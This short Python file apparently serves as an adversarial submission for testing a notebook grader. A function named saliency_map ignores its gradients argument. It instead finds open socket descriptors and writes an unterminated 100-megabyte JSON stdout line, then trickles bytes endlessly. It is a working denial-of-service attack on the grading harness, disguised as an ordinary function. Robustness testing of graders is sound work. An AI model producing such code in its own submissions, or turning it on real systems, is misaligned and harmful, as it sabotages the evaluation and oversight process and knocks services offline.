"""Sends the grader one line of a hundred megabytes that does not end, slowly, a few bytes at a time at the end."""

# seconds: 4
# cell: saliency_map
import os
import stat
import time


def saliency_map(gradients):
    for descriptor in range(3, 16):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, b'{"output": "stream", "name": "stdout", "text": "')
                for _ in range(100):
                    os.write(descriptor, b"x" * (1 << 20))
                while True:
                    os.write(descriptor, b"x")
                    time.sleep(0.01)
        except OSError:
            pass
